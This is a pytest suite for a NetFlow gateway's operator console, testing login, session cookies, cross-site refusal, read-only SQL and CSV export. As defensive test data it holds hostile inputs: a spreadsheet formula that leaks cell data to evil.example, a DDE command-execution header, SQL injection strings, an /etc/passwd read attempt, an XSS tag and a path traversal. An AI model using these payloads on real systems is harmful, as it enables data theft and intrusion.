"""The operator console over HTTP (no browser): who gets in (token, session cookie, bearer for scrapers), what
is refused (forged, replayed and cross-site requests, hostile filters and SQL), and that the numbers it serves
are the store's and the status document's."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from unittest import mock

import aiohttp
import pytest
from aiohttp.test_utils import make_mocked_request

from flowtunnel.cli.sources import read_sources
from flowtunnel.datagram import Datagram
from flowtunnel.errors import ConfigError
from flowtunnel.gateway import Gateway, Registry
from flowtunnel.gateway.console.auth import COOKIE_NAME, OperatorAuth, read_token_file, same_origin
from flowtunnel.gateway.console.data import MAX_RANGE, AgentThresholds, RateHistory, agent_state, parse_range
from flowtunnel.gateway.console.routes import CSP, GuardSettings, operator_access
from flowtunnel.netflow import encode_v5
from tests.gateway.util import drained, enroll, post_batch, seal, start_gateway
from tests.peers import UdpCapture

TOKEN = "op-token-0123456789abcdefghijklmnop"


def v5_datagrams(n: int, *, exporter: str = "192.0.2.7", first_sequence: int = 0) -> list[Datagram]:
    now = int(time.time())
    out = []
    for k in range(n):
        recs = [{
            "sourceIPv4Address": f"10.0.0.{1 + j % 3}", "destinationIPv4Address": "198.51.100.9",
            "sourceTransportPort": 40000 + j, "destinationTransportPort": 443 if j % 2 else 53,
            "protocolIdentifier": 6 if j % 2 else 17, "octetDeltaCount": 1000 * (j + 1),
            "packetDeltaCount": j + 1, "flowStartSysUpTime": 500_000, "flowEndSysUpTime": 590_000,
        } for j in range(10)]
        payload = encode_v5(recs, sys_uptime_ms=600_000, unix_secs=now, sequence=first_sequence + k * 10)
        out.append(Datagram(received_ns=time.time_ns(), exporter=exporter, exporter_port=2055,
                            local_port=2055, payload=payload))
    return out


def token_file(tmp_path: Path, text: str = TOKEN) -> Path:
    path = tmp_path / "admin.token"
    path.write_text(text + "\n")
    path.chmod(0o600)
    return path


async def stored(gw: Gateway) -> None:
    assert gw.journal is not None
    async with asyncio.timeout(30):
        while True:
            store = next(s for s in gw.sinks if s.name == "store")
            if int(str(store.status().get("cursor", 0) or 0)) >= gw.journal.last_seq():
                return
            await asyncio.sleep(0.05)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[tuple[Gateway, str]]:
    data = tmp_path / "gw"
    key = enroll(data, "site-1")
    enroll(data, "site-2")
    gw = await start_gateway(data, store=True, admin_token_file=token_file(tmp_path))
    try:
        async with aiohttp.ClientSession() as s:
            status, doc, _ = await post_batch(s, gw.url, seal("site-1", key, 1, v5_datagrams(4)),
                                              agent="site-1",
                                              headers={"X-Flowtunnel-Backlog": "7",
                                                       "X-Flowtunnel-Dropped": "spool_full=3"})
            assert status == 200, doc
        await stored(gw)
        yield gw, gw.url
    finally:
        await gw.stop()


async def login(s: aiohttp.ClientSession, url: str, token: str = TOKEN) -> aiohttp.ClientResponse:
    async with s.post(url + "/console/login", data={"token": token}, allow_redirects=False,
                      headers={"Origin": url}) as resp:
        await resp.read()
        return resp


def cookie_jar() -> aiohttp.CookieJar:
    return aiohttp.CookieJar(unsafe=True)  # keep cookies of an IP-address host


# -- access ------------------------------------------------------------------------------------------

async def test_metrics_and_status_need_the_bearer_token(world: tuple[Gateway, str]) -> None:
    _, url = world
    async with aiohttp.ClientSession() as s:
        for path in ("/metrics", "/v1/status"):
            async with s.get(url + path) as resp:
                assert resp.status == 401
                assert "Bearer" in resp.headers["WWW-Authenticate"]
            bad = {"Authorization": "Bearer wrong-xxxxxxxxxxxxxxxxxxxxx"}
            async with s.get(url + path, headers=bad) as r:
                assert r.status == 401
            async with s.get(url + path, headers={"Authorization": f"Bearer {TOKEN}"}) as resp:
                assert resp.status == 200
        async with s.get(url + "/healthz") as resp:
            assert resp.status == 200


async def test_login_sets_a_strict_httponly_expiring_session_cookie(world: tuple[Gateway, str]) -> None:
    _, url = world
    async with aiohttp.ClientSession(cookie_jar=cookie_jar()) as s:
        async with s.get(url + "/console") as resp:
            page = await resp.text()
            assert 'name="token"' in page
            assert resp.headers["Content-Security-Policy"] == CSP
            assert "script-src 'self'" in CSP
            assert "unsafe-inline" not in CSP
        resp = await login(s, url)
        assert resp.status == 303
        morsel = resp.cookies[COOKIE_NAME]
        assert morsel["httponly"] is True
        assert morsel["samesite"] == "Strict"
        assert morsel["path"] == "/console"
        assert int(morsel["max-age"]) > 0
        assert not morsel["secure"]  # plain HTTP here; over TLS it is Secure (test below)
        assert TOKEN not in morsel.value
        async with s.get(url + "/console") as resp:
            assert 'id="agents"' in await resp.text()
        async with s.get(url + "/console/api/agents") as resp:
            assert resp.status == 200
        # The session also opens /v1/status (same operator), but only under /console is the cookie sent.
        async with s.post(url + "/console/logout", headers={"Origin": url}, allow_redirects=False) as resp:
            assert resp.status == 303
        async with s.get(url + "/console/api/agents") as resp:
            assert resp.status == 401


async def test_the_cookie_is_secure_over_tls(tmp_path: Path) -> None:
    from tests.gateway.util import self_signed_cert

    cert, key = self_signed_cert(tmp_path)
    gw = await start_gateway(tmp_path / "gw", tls_cert=cert, tls_key=key,
                             admin_token_file=token_file(tmp_path))
    try:
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=False)) as s:
            resp = await login(s, gw.url)
            assert resp.status == 303
            assert resp.cookies[COOKIE_NAME]["secure"] is True
    finally:
        await gw.stop()


async def test_wrong_token_forged_and_replayed_cookies_are_refused(world: tuple[Gateway, str]) -> None:
    _, url = world
    async with aiohttp.ClientSession(cookie_jar=cookie_jar()) as s:
        resp = await login(s, url, token="not-the-operator-token-xxxxx")
        assert resp.status == 303
        assert resp.headers["Location"] == "/console?denied=1"
        assert COOKIE_NAME not in resp.cookies
        async with s.get(url + "/console/api/agents") as r:
            assert r.status == 401
    async with aiohttp.ClientSession() as s:
        forged = {COOKIE_NAME: "A" * 43}
        async with s.get(url + "/console/api/agents", cookies=forged) as r:
            assert r.status == 401
        async with s.get(url + "/console/flows", cookies=forged, allow_redirects=False) as r:
            assert r.status == 303
        resp = await login(s, url)
        sid = resp.cookies[COOKIE_NAME].value
        async with s.get(url + "/console/api/agents", cookies={COOKIE_NAME: sid}) as r:
            assert r.status == 200
        async with s.post(url + "/console/logout", cookies={COOKIE_NAME: sid}, headers={"Origin": url},
                          allow_redirects=False) as r:
            assert r.status == 303
        async with s.get(url + "/console/api/agents", cookies={COOKIE_NAME: sid}) as r:  # replayed
            assert r.status == 401


async def test_a_session_of_a_previous_gateway_process_is_refused(tmp_path: Path) -> None:
    """Sessions live in the gateway's memory only: a cookie replayed against the same gateway restarted (same
    data directory, same token) names no session."""
    data, tokens = tmp_path / "gw", token_file(tmp_path)
    gw = await start_gateway(data, admin_token_file=tokens)
    try:
        async with aiohttp.ClientSession() as s:
            sid = (await login(s, gw.url)).cookies[COOKIE_NAME].value
            async with s.get(gw.url + "/console/api/agents", cookies={COOKIE_NAME: sid}) as r:
                assert r.status == 200
    finally:
        await gw.stop()
    gw = await start_gateway(data, admin_token_file=tokens)
    try:
        async with aiohttp.ClientSession() as s:
            async with s.get(gw.url + "/console/api/agents", cookies={COOKIE_NAME: sid}) as r:
                assert r.status == 401
            async with s.get(gw.url + "/v1/status", cookies={COOKIE_NAME: sid}) as r:
                assert r.status == 401
    finally:
        await gw.stop()


async def test_cross_site_requests_are_refused(world: tuple[Gateway, str]) -> None:
    _, url = world
    async with aiohttp.ClientSession() as s:
        async with s.post(url + "/console/login", data={"token": TOKEN}, allow_redirects=False,
                          headers={"Origin": "https://evil.example"}) as r:
            assert r.status == 403
            assert "Origin" in (await r.json())["error"]
            assert COOKIE_NAME not in r.cookies
        async with s.post(url + "/console/login", data={"token": TOKEN}, allow_redirects=False,
                          headers={"Sec-Fetch-Site": "cross-site"}) as r:
            assert r.status == 403
        resp = await login(s, url)
        sid = resp.cookies[COOKIE_NAME].value
        async with s.post(url + "/console/logout", cookies={COOKIE_NAME: sid}, allow_redirects=False,
                          headers={"Origin": "http://attacker.test"}) as r:
            assert r.status == 403
        async with s.get(url + "/console/api/agents", cookies={COOKIE_NAME: sid},
                         headers={"Sec-Fetch-Site": "cross-site"}) as r:
            assert r.status == 403
        async with s.get(url + "/console/api/agents", cookies={COOKIE_NAME: sid}) as r:
            assert r.status == 200  # the session was not ended by the refused logout


MULTIPART = "multipart/form-data; boundary=b"


@pytest.mark.parametrize(("body", "ctype"), [
    (b"--b\r\ngarbage", MULTIPART),  # a part whose headers do not parse: was a 500
    (b'--b\r\nContent-Disposition: form-data; name="token"\r\n\r\nunterminated', MULTIPART),
    (b"\xff\xfe", "application/x-www-form-urlencoded"),
])
async def test_a_malformed_login_form_is_a_clear_400_never_a_500(
    world: tuple[Gateway, str], body: bytes, ctype: str
) -> None:
    _, url = world
    async with aiohttp.ClientSession() as s, s.post(
        url + "/console/login", data=body, allow_redirects=False,
        headers={"Content-Type": ctype, "Origin": url},
    ) as r:
        assert r.status == 400, await r.text()
        assert "login form" in (await r.json())["error"]
        assert COOKIE_NAME not in r.cookies


async def test_without_a_token_the_console_is_off_and_metrics_stay_on_loopback(tmp_path: Path) -> None:
    gw = await start_gateway(tmp_path / "gw")
    try:
        async with aiohttp.ClientSession() as s:
            async with s.get(gw.url + "/console") as r:
                assert r.status == 503
                assert "admin-token" in await r.text()
            async with s.post(gw.url + "/console/login", data={"token": "x"}) as r:
                assert r.status in (404, 405)
            async with s.get(gw.url + "/metrics") as r:  # loopback peer
                assert r.status == 200
    finally:
        await gw.stop()


async def test_metrics_public_opens_metrics_and_status(tmp_path: Path) -> None:
    gw = await start_gateway(tmp_path / "gw", admin_token_file=token_file(tmp_path), metrics_public=True)
    try:
        async with aiohttp.ClientSession() as s:
            for path in ("/metrics", "/v1/status"):
                async with s.get(gw.url + path) as r:
                    assert r.status == 200
    finally:
        await gw.stop()


def test_loose_or_short_token_files_are_refused(tmp_path: Path) -> None:
    loose = token_file(tmp_path)
    loose.chmod(0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        read_token_file(loose)
    short = tmp_path / "short"
    short.write_text("abc\n")
    short.chmod(0o600)
    with pytest.raises(ConfigError, match="3 characters"):
        read_token_file(short)


def test_sessions_expire_and_the_token_never_shows_in_the_repr() -> None:
    now = [1000.0]
    auth = OperatorAuth(TOKEN, session_ttl=60, clock=lambda: now[0])
    sid = auth.sessions.create()
    assert auth.sessions.valid(sid)
    now[0] += 61
    assert not auth.sessions.valid(sid)
    assert TOKEN not in repr(auth)
    assert auth.bearer_ok(f"Bearer {TOKEN}")
    assert not auth.bearer_ok(TOKEN)
    assert not auth.bearer_ok(None)


@pytest.mark.parametrize(("token", "public", "remote", "authorization", "allowed"), [
    (None, False, "127.0.0.1", None, True),  # no operator token: loopback is the operator
    (None, False, "::1", None, True),
    (None, False, "203.0.113.5", None, False),  # a load balancer or anyone else
    (TOKEN, False, "127.0.0.1", None, False),  # with a token, only its holder
    (TOKEN, False, "203.0.113.5", f"Bearer {TOKEN}", True),
    (TOKEN, False, "127.0.0.1", "Bearer wrong-token-0123456789abcdefghij", False),
    (TOKEN, True, "203.0.113.5", None, True),  # --metrics-public: /v1/status is anyone's anyway
])
def test_operator_access_follows_the_status_guard(
    token: str | None, public: bool, remote: str, authorization: str | None, allowed: bool
) -> None:
    """Who may read agent ids (``/v1/status``, ``/metrics``, the names in ``/v1/health``)."""
    transport = mock.Mock()
    transport.get_extra_info.side_effect = lambda name, default=None: (
        (remote, 40000) if name == "peername" else default)
    headers = {"Authorization": authorization} if authorization else {}
    request = make_mocked_request("GET", "/v1/health", headers=headers, transport=transport)
    auth = OperatorAuth(token, session_ttl=60, clock=time.monotonic)
    assert operator_access(auth, GuardSettings(metrics_public=public), request) is allowed


def test_same_origin_rules() -> None:
    assert same_origin({"Origin": "http://gw:8080"}, scheme="http", host="gw:8080") is None
    assert same_origin({"Origin": "http://gw:8080"}, scheme="https", host="gw:8080") is not None
    assert same_origin({"Origin": "null"}, scheme="http", host="gw:8080") is not None
    assert same_origin({"Sec-Fetch-Site": "same-site"}, scheme="http", host="gw") is not None
    assert same_origin({}, scheme="http", host="gw") is None  # not a browser: carries no victim's cookie


# -- data --------------------------------------------------------------------------------------------

async def session(s: aiohttp.ClientSession, url: str) -> dict[str, str]:
    resp = await login(s, url)
    return {COOKIE_NAME: resp.cookies[COOKIE_NAME].value}


async def get(s: aiohttp.ClientSession, url: str, cookies: dict[str, str], **params: str) -> tuple[int, Any]:
    async with s.get(url, params=params, cookies=cookies) as r:
        return r.status, await r.json()


async def test_agents_page_shows_what_status_and_the_store_hold(world: tuple[Gateway, str]) -> None:
    gw, url = world
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        status, doc = await get(s, url + "/console/api/agents", c)
    assert status == 200, doc
    rows = {a["id"]: a for a in doc["agents"]}
    assert set(rows) == {"site-1", "site-2"}
    st = gw.status()["agents"]["site-1"]  # type: ignore[index]
    a = rows["site-1"]
    assert a["state"] == "alive"
    assert rows["site-2"]["state"] == "never"
    assert a["datagrams"] == st["datagrams"] == 4
    assert a["wire_bytes"] == st["http_bytes"]
    assert a["raw_bytes"] == st["datagram_bytes"]
    assert a["backlog"] == 7
    assert a["drops"]["agent:spool_full"] == 3
    assert a["rung"] == "post"
    assert a["records"] == 40
    assert a["exporters"] == 1
    assert sum(b for _, b in a["spark"]) == 4 * sum(1000 * (j + 1) for j in range(10))


async def test_loss_by_cause_and_upload_rate_are_the_store_and_gateway_figures(
    world: tuple[Gateway, str],
) -> None:
    """The "drops and loss" figures of a row: NetFlow sequence loss between the exporter and the agent, and
    datagrams lost in transit (a jump in the agent's own sequence), as the store counts them, and the gap the
    gateway saw, as the status document holds it; the upload rate is the gateway's rate history's."""
    gw, url = world
    with Registry(gw.data_dir) as reg:
        entry = reg.get("site-1")
    assert entry is not None
    # The first batch held the agent's datagrams 1-4, NetFlow sequence 0-39; this one starts at the agent's
    # datagram 10 (5-9 never arrive) and at NetFlow sequence 50 (40-49 were lost before the agent).
    async with aiohttp.ClientSession() as s:
        status, doc, _ = await post_batch(s, url, seal("site-1", entry.key, 10,
                                                       v5_datagrams(1, first_sequence=50)), agent="site-1")
        assert status == 200, doc
        await stored(gw)
        assert gw.console_data is not None
        gw.console_data.forget()  # the store figures are cached a few seconds
        # The gateway samples every 10 s at its status rewrites: a history of our own, samples 100 s apart.
        history = RateHistory()
        now = time.time()
        history.sample({"site-1": {"http_bytes": 1_000, "datagram_bytes": 0}}, now - 100)
        history.sample({"site-1": {"http_bytes": 31_000, "datagram_bytes": 0}}, now)
        assert gw.console_data.history is gw.rates
        gw.console_data.history = history
        c = await session(s, url)
        _, doc = await get(s, url + "/console/api/agents", c)
        _, lost = await get(s, url + "/console/api/query", c, mode="sql", q=(
            "SELECT (SELECT sum(seq_lost) FROM exporter_stats WHERE agent = 'site-1'), "
            "(SELECT transit_lost FROM agent_stats WHERE agent = 'site-1')"))
    row = next(a for a in doc["agents"] if a["id"] == "site-1")
    assert lost["rows"] == [[10, 5]]
    assert row["drops"]["netflow_seq_lost"] == 10
    assert row["drops"]["transit"] == 5
    assert row["drops"]["sequence_gap"] == gw.status()["agents"]["site-1"]["gap"] == 5  # type: ignore[index]
    assert row["upload_bps"] == pytest.approx(300.0)


def test_the_upload_rate_is_wire_bytes_per_second_over_the_last_minutes() -> None:
    history = RateHistory(keep=3600, every=10)
    assert history.rate("a") is None
    for t, wire in ((0, 0), (5, 999), (100, 10_000), (400, 40_000), (700, 100_000)):
        history.sample({"a": {"http_bytes": wire, "datagram_bytes": 0}}, float(t))
    assert history.rate("a") == pytest.approx(60_000 / 300)  # samples of the last 300 s (400 -> 700)
    assert history.rate("a", window=1000) == pytest.approx(100_000 / 700)  # the 5 s sample was skipped
    history.sample({"a": {"http_bytes": 100_000, "datagram_bytes": 0}}, 1000.0)
    assert history.rate("a") == 0.0  # idle
    history.sample({"a": {"http_bytes": 100_000, "datagram_bytes": 0}}, 5000.0)
    assert history.rate("a") is None  # samples older than an hour are gone: one left, no rate


async def test_agent_page_series_top_and_query_agree_with_the_store(world: tuple[Gateway, str]) -> None:
    _, url = world
    total = 4 * sum(1000 * (j + 1) for j in range(10))
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        status, doc = await get(s, url + "/console/api/agent", c, id="site-1", range="1h")
        assert status == 200, doc
        assert [e["exporter"] for e in doc["exporters"]] == ["192.0.2.7"]
        assert doc["exporters"][0]["records"] == 40
        assert sum(doc["series"]["groups"]["192.0.2.7"]["bytes"]) == total
        status, doc = await get(s, url + "/console/api/series", c, range="1h", group="agent")
        assert sum(doc["groups"]["site-1"]["flows"]) == 40
        status, doc = await get(s, url + "/console/api/series", c, range="1h", filter="proto tcp")
        assert sum(doc["groups"][""]["flows"]) == 20
        status, doc = await get(s, url + "/console/api/top", c, by="dst_port", filter="dst port 443",
                                range="1h")
        assert status == 200
        assert doc["rows"][0][0] == 443
        assert doc["rows"][0][3] == 20
        assert len(doc["rows"]) == 1
        status, doc = await get(s, url + "/console/api/query", c, mode="filter", q="src host 10.0.0.1",
                                limit="5")
        assert status == 200
        assert len(doc["rows"]) == 5
        assert doc["truncated"]
        status, doc = await get(s, url + "/console/api/query", c, mode="sql",
                                q="SELECT count(*) AS n, sum(bytes) AS b FROM flows")
        assert doc["rows"] == [[40, total]]
        async with s.get(url + "/console/api/query", cookies=c,
                         params={"mode": "sql", "q": "SELECT agent, bytes FROM flows ORDER BY bytes LIMIT 3",
                                 "format": "csv"}) as r:
            assert r.status == 200
            assert r.headers["Content-Type"].startswith("text/csv")
            assert "attachment" in r.headers["Content-Disposition"]
            rows = list(csv.reader(io.StringIO(await r.text())))
        assert rows == [["agent", "bytes"], ["site-1", "1000"], ["site-1", "1000"], ["site-1", "1000"]]


async def test_csv_download_defuses_spreadsheet_formulas_and_keeps_numbers(
    world: tuple[Gateway, str],
) -> None:
    """OWASP "CSV Injection": a text cell starting with =, +, -, @, tab or CR is run as a formula by Excel and
    LibreOffice; the download prefixes it with a single quote (shown as text, not run). Numbers, negative ones
    too, stay numbers; other text is unchanged. Column names (any alias the operator's SQL gives) as well."""
    _, url = world
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
               "\r=1+1", "plain", "a=b", "1-2"]
    cells = ", ".join(f"'{h}' AS c{i}".replace("'\t", "chr(9) || '").replace("'\r", "chr(13) || '")
                      for i, h in enumerate(hostile))
    sql = f"SELECT {cells}, -5 AS neg, -1.5 AS f, 42 AS n, '' AS e, NULL AS z, 7 AS \"=cmd|' /C calc'!A0\""
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        async with s.get(url + "/console/api/query", cookies=c,
                         params={"mode": "sql", "q": sql, "format": "csv"}) as r:
            assert r.status == 200, await r.text()
            text = await r.text()
        status, doc = await get(s, url + "/console/api/query", c, mode="sql", q=sql)
    assert status == 200, doc
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header[-1] == "'=cmd|' /C calc'!A0"
    assert header[:-1] == [f"c{i}" for i in range(len(hostile))] + ["neg", "f", "n", "e", "z"]
    assert row[:6] == ["'" + v for v in doc["rows"][0][:6]]
    assert row[6:] == ["plain", "a=b", "1-2", "-5", "-1.5", "42", "", "", "7"]
    assert doc["rows"][0][:6] == ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"]  # the JSON (the page's table) is as stored


async def test_series_split_by_exporter_shows_the_biggest_and_sums_the_rest_as_other(
    world: tuple[Gateway, str],
) -> None:
    """Eleven exporters (site-1's is filtered out): the eight with the most bytes each get a series, the
    other three one "(other)"; every bucket's groups add up to the total series, and "(other)" is exactly
    what the three sent."""
    gw, url = world
    with Registry(gw.data_dir) as reg:
        entry = reg.get("site-2")
    assert entry is not None
    sent = [dg for i in range(11) for dg in v5_datagrams(i + 1, exporter=f"192.0.2.{100 + i}")]
    per_datagram = sum(1000 * (j + 1) for j in range(10))
    async with aiohttp.ClientSession() as s:
        status, doc, _ = await post_batch(s, url, seal("site-2", entry.key, 1, sent), agent="site-2")
        assert status == 200, doc
        await stored(gw)
        c = await session(s, url)
        # Both series from the same instant: a minute boundary between the two requests shifted every
        # bucket of the second one by 60 s (the comparison of their times below failed now and then).
        assert gw.console_data is not None
        frozen = gw.console_data.clock()
        gw.console_data.clock = lambda: frozen
        _, split = await get(s, url + "/console/api/series", c, range="1h", group="exporter",
                             filter="not router ip 192.0.2.7")
        _, total = await get(s, url + "/console/api/series", c, range="1h", filter="not router ip 192.0.2.7")
    groups = split["groups"]
    assert set(groups) == {f"192.0.2.{100 + i}" for i in range(3, 11)} | {"(other)"}
    for i in range(3, 11):
        assert sum(groups[f"192.0.2.{100 + i}"]["bytes"]) == (i + 1) * per_datagram
    assert sum(groups["(other)"]["bytes"]) == (1 + 2 + 3) * per_datagram
    assert sum(groups["(other)"]["flows"]) == (1 + 2 + 3) * 10
    assert split["times"] == total["times"]
    for metric in ("bytes", "packets", "flows"):
        summed = [sum(g[metric][i] for g in groups.values()) for i in range(len(split["times"]))]
        assert summed == total["groups"][""][metric]


@pytest.mark.parametrize(("params", "status", "needle"), [
    ({"mode": "filter", "q": "prot tcp"}, 400, "did you mean 'proto'"),
    ({"mode": "filter", "q": "(" * 5000}, 400, ""),
    ({"mode": "sql", "q": "DELETE FROM flows"}, 400, "read-only"),
    ({"mode": "sql", "q": "SELECT * FROM read_csv('/etc/passwd')"}, 400, ""),
    ({"mode": "sql", "q": "COPY flows TO '/tmp/x.csv'"}, 400, "read-only"),
    ({"mode": "sql", "q": "INSTALL httpfs"}, 400, ""),
    ({"mode": "sql", "q": "SELECT 1; DROP TABLE flows"}, 400, "one statement"),
    ({"mode": "sql", "q": "SELEC nonsense"}, 400, ""),
    ({"mode": "bogus"}, 400, "filter or sql"),
    ({"mode": "filter", "range": "forever"}, 400, "time range"),
    ({"mode": "filter", "range": "-5m"}, 400, ""),
    ({"mode": "filter", "limit": "lots"}, 400, "whole number"),
])
async def test_hostile_queries_get_a_clear_message_never_a_500(
    world: tuple[Gateway, str], params: dict[str, str], status: int, needle: str
) -> None:
    _, url = world
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        got, doc = await get(s, url + "/console/api/query", c, **params)
        assert got == status, doc
        assert needle in doc["error"]
        got, doc = await get(s, url + "/console/api/query", c, mode="sql", q="SELECT count(*) FROM flows")
        assert doc["rows"] == [[40]]  # nothing changed


HOSTILE_VALUES = (
    "", "-1", "0", "1e400", "nan", "inf", "99999999999999999999999", "\x00", "\u202e", "é", "%ff",
    "'; DROP TABLE flows; --", "(" * 100, "proto tcp and", "<script>alert(1)</script>", "1h;2h", "P1D",
    "36500d", "x" * 5000,
)
API_PARAMS = {
    "/console/api/agents": (),
    "/console/api/agent": ("id", "range"),
    "/console/api/series": ("range", "group", "agent", "exporter", "filter"),
    "/console/api/top": ("range", "by", "order", "limit", "filter", "agent"),
    "/console/api/query": ("mode", "q", "limit", "range", "format"),
}


async def test_every_endpoint_answers_hostile_parameters_without_a_500(world: tuple[Gateway, str]) -> None:
    """Each parameter of each JSON endpoint set to each hostile value (and a raw query string that is not
    UTF-8): a 200 or a 4xx with a JSON message, never a 5xx, and the store unchanged afterwards."""
    _, url = world
    bad = []
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        for path, names in API_PARAMS.items():
            asks: list[str | dict[str, str]] = ["range=%ff&filter=%ff%fe&id=%ff&by=%ff&q=%ff"]
            asks += [{name: value, **({"id": "site-1"} if name != "id" else {})}
                     for name in names for value in HOSTILE_VALUES]
            for params in asks:
                target = f"{url}{path}?{params}" if isinstance(params, str) else url + path
                async with s.get(target, params=None if isinstance(params, str) else params,
                                 cookies=c) as r:
                    body = await r.read()
                    if r.status >= 500 or (r.status >= 400 and "error" not in json.loads(body)):
                        bad.append((path, params if isinstance(params, str) else str(params)[:80], r.status))
        _, doc = await get(s, url + "/console/api/query", c, mode="sql", q="SELECT count(*) FROM flows")
    assert not bad, bad
    assert doc["rows"] == [[40]]


async def test_huge_ranges_are_clamped(world: tuple[Gateway, str]) -> None:
    _, url = world
    assert parse_range("36500d") == (MAX_RANGE, True)
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        status, doc = await get(s, url + "/console/api/series", c, range="5000d")
    assert status == 200
    assert doc["clamped"]
    assert doc["range_s"] == MAX_RANGE
    assert len(doc["times"]) <= 800


async def test_static_assets_ship_in_the_package_and_pages_carry_no_data(world: tuple[Gateway, str]) -> None:
    _, url = world
    async with aiohttp.ClientSession() as s:
        c = await session(s, url)
        for path in ("/console/static/vendor/uplot/uPlot.iife.min.js", "/console/static/agents.js",
                     "/console/static/vendor/uplot/LICENSE"):
            async with s.get(url + path, cookies=c) as r:
                assert r.status == 200
        async with s.get(url + "/console/static/../../service.py", cookies=c) as r:
            assert r.status == 404
        for page in ("/console", "/console/agent?id=%3Cscript%3Ealert(1)%3C/script%3E", "/console/query"):
            async with s.get(url + page, cookies=c) as r:
                text = await r.text()
                assert "<script>" not in text
                assert "alert(1)" not in text
                assert r.headers["Content-Security-Policy"] == CSP
                assert r.headers["X-Content-Type-Options"] == "nosniff"
    for name in ("common.js", "agents.js", "agent.js", "flows.js", "query.js", "login.js"):
        js = (Path(__file__).parents[2] / "src/flowtunnel/gateway/console/static" / name).read_text()
        assert "innerHTML" not in js
        assert "insertAdjacentHTML" not in js
        assert "document.write" not in js


def test_agent_states_follow_the_thresholds() -> None:
    th = AgentThresholds(late=10, silent=60)
    assert agent_state({"last_seen": 95.0}, now=100.0, thresholds=th) == "alive"
    assert agent_state({"last_seen": 80.0}, now=100.0, thresholds=th) == "late"
    assert agent_state({"last_seen": 20.0}, now=100.0, thresholds=th) == "silent"
    assert agent_state({}, now=100.0, thresholds=th) == "never"
    assert agent_state({"last_seen": 99.0, "revoked": True}, now=100.0, thresholds=th) == "revoked"


def test_octet_aligned_networks_compile_to_a_plain_text_prefix() -> None:
    """The console's "net" filters over millions of flows: a whole-octet IPv4 network is one starts_with
    (no per-row octet parsing: 1.8x faster in bench/console.py), and still exact."""
    from flowtunnel.store.filter import compile_filter

    flt = compile_filter("src net 10.1.0.0/16")
    assert "split_part" not in flt.where
    assert flt.params == ("10.1.",)
    assert "split_part" in compile_filter("src net 10.0.0.0/12").where  # not whole octets: the general form


async def test_the_grafana_dashboard_asks_for_metrics_the_gateway_serves(world: tuple[Gateway, str]) -> None:
    """docs/grafana/flowtunnel-gateway.json: every metric its panels query is on /metrics (with the token)."""
    import json
    import re

    _, url = world
    doc = json.loads((Path(__file__).parents[2] / "docs/grafana/flowtunnel-gateway.json").read_text())
    wanted = {m for p in doc["panels"] for t in p["targets"]
              for m in re.findall(r"flowtunnel_[a-z_]+", t["expr"])}
    assert wanted
    async with aiohttp.ClientSession() as s, s.get(
        url + "/metrics", headers={"Authorization": f"Bearer {TOKEN}"}
    ) as r:
        text = await r.text()
    # Sample lines, and the declared families (a labelled metric without samples yet has only these).
    served = set(re.findall(r"^(flowtunnel_[a-z_]+)", text, flags=re.M))
    for name, kind in re.findall(r"^# TYPE (flowtunnel_[a-z_]+) (\w+)", text, flags=re.M):
        served |= {name, f"{name}_total"} if kind == "counter" else {name}
    assert wanted <= served, f"not served: {sorted(wanted - served)}"


async def test_admin_token_command_writes_a_private_token_the_gateway_uses_by_default(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from flowtunnel.cli import main

    data = tmp_path / "gw"
    assert main(["admin-token", "--data", str(data)]) == 0
    path = data / "admin.token"
    assert path.stat().st_mode & 0o777 == 0o600
    token = path.read_text().strip()
    assert token not in capsys.readouterr().out  # not printed unless --print
    assert main(["admin-token", "--data", str(data)]) == 2  # exists: refused without --rotate
    assert path.read_text().strip() == token
    assert main(["admin-token", "--data", str(data), "--rotate", "--print"]) == 0
    rotated = path.read_text().strip()
    assert rotated != token
    assert rotated in capsys.readouterr().out
    gw = await start_gateway(data)  # no --admin-token-file: DATA/admin.token
    try:
        async with aiohttp.ClientSession() as s:
            resp = await login(s, gw.url, token=rotated)
            assert resp.status == 303
            assert COOKIE_NAME in resp.cookies
    finally:
        await gw.stop()


async def test_console_off_serves_no_console_but_guards_metrics(tmp_path: Path) -> None:
    from flowtunnel.config import load_settings
    from flowtunnel.gateway import GatewayConfig

    cfg = load_settings(GatewayConfig, section="gateway", env={
        "FLOWTUNNEL_GATEWAY_CONSOLE": "off", "FLOWTUNNEL_GATEWAY_DATA": str(tmp_path / "gw"),
        "FLOWTUNNEL_GATEWAY_LISTEN": "127.0.0.1:0", "FLOWTUNNEL_GATEWAY_STORE": "false",
        "FLOWTUNNEL_GATEWAY_ADMIN_TOKEN_FILE": str(token_file(tmp_path)),
    })
    assert cfg.console is False
    gw = Gateway(cfg)
    await gw.start()
    try:
        async with aiohttp.ClientSession() as s:
            async with s.get(gw.url + "/console") as r:
                assert r.status == 404
            async with s.get(gw.url + "/metrics") as r:
                assert r.status == 401
            async with s.get(gw.url + "/v1/status", headers={"Authorization": f"Bearer {TOKEN}"}) as r:
                assert r.status == 200
    finally:
        await gw.stop()


def test_console_off_and_metrics_public_on_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``flowtunnel gateway --console off --metrics-public``: the flags reach the gateway's settings (the
    environment's spelling is tested above); without them the console is on and the metrics guarded."""
    import flowtunnel.gateway.service as service
    import flowtunnel.runtime as runtime
    from flowtunnel.cli import main
    from flowtunnel.gateway import GatewayConfig

    seen: list[GatewayConfig] = []
    monkeypatch.setattr(service, "run_gateway", lambda config, stop: seen.append(config))
    monkeypatch.setattr(runtime, "run_daemon", lambda run: run(None) or 0)
